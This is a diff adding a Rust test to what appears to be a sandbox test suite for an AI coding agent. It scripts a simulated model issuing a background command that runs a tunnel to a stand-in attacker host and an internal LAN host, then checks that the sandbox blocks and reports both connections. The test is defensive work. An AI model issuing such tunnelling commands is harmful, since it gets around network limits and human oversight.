@@ -310,6 +310,48 @@ fn attack_07_the_way_out_ends_with_its_command() {
 }
 
 #[test]
+fn attack_07_what_a_background_command_was_refused_is_told_while_it_runs() {
+    if !with_bubblewrap() {
+        return;
+    }
+    let mut bench = bench(Kind::Bubblewrap, "['named.test']", &[]);
+    let asks = "python3 tunnel.py evil.test:443 lan.test:80 evil.test:443; echo > asked; sleep 600";
+    let look = || Step::calls(vec![call("toolu_l", "bash_output", json!({"id": 1}))]);
+    bench.model = Model::start(vec![
+        Step::calls(vec![call(
+            "toolu_b",
+            "bash_background",
+            json!({"command": asks}),
+        )]),
+        Step::calls(vec![call(
+            "toolu_w",
+            "bash",
+            json!({"command": "until [ -e asked ]; do :; done"}),
+        )]),
+        look(),
+        look(),
+        Step::text("Done."),
+    ]);
+    let mut editor = bench.editor();
+    let told = bench.run(&mut editor);
+    let lines: Vec<&str> = told[2].lines().collect();
+    assert_eq!(lines.len(), 6, "{}", told[2]);
+    assert_eq!(lines[..3], ["HTTP/1.1 403 Forbidden"; 3]);
+    assert!(
+        lines[3].starts_with("(evil.test:443 was not let through"),
+        "{}",
+        told[2]
+    );
+    assert!(
+        lines[4].starts_with("(lan.test:80 was not let through"),
+        "{}",
+        told[2]
+    );
+    assert_eq!(lines[5], "(running)");
+    assert_eq!(told[3], "(running, nothing new)");
+}
+
+#[test]
 fn attack_07_where_the_network_cannot_be_narrowed_there_is_none() {
     if !kinds().contains(&Kind::Landlock) {
         return;
